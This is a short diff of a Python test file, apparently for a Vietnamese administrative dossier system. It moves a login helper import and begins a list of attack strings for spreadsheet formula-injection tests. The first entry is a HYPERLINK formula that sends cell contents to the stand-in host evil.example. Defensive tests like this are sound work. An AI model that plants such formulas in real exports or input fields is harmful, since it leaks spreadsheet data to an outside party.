@@ -19,8 +19,8 @@ from motcua import clock
 
 from . import stats_dataset
 from .dossier_helpers import APPLICANT, CHECKLIST, add_procedures
+from .signing import login
 from .test_fees import at
-from .test_queue_web import login
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
